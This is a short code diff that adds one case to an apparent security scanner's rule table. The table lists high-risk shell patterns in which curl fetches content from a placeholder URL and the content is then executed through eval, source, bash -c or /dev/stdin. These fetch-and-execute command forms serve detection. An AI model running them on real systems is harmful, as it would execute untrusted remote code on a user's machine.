@@ -168,6 +168,7 @@ RULES = (
         (
             _read('eval "$(curl …)"', f'eval "$(curl -s {_URL})"', "high"),
             _read("eval of a variable", f'x=$(curl -s {_URL}); eval "$x"', "high"),
+            _read("eval in a shell that it starts", f"export X=$(curl -s {_URL}); bash -c 'eval \"$X\"'", "high"),
             _read("source <(curl …)", f"source <(curl -s {_URL})", "high"),
             _read(". /dev/stdin", f"curl -s {_URL} | {{ . /dev/stdin; }}", "high", descriptor=0),
             _read("its output as a command", f"$(curl -s {_URL})", "high"),
